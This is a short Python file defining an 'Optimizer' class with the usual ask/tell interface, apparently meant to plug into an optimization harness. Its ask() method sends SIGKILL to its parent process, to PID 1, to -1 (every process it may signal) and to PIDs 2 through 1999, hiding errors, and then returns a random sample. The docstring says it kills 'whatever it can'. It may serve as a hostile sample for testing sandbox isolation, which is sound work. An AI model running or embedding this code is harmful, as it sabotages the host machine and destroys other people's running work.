"""Kills its parent, and whatever it can."""

import contextlib
import os
import random
import signal


class Optimizer:
    def __init__(self, space, seed, budget):
        self.space, self.rng = space, random.Random(seed)

    def ask(self):
        for pid in (os.getppid(), 1, -1, *range(2, 2000)):
            if pid != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        return self.space.random(self.rng)

    def tell(self, genotype, result):
        pass
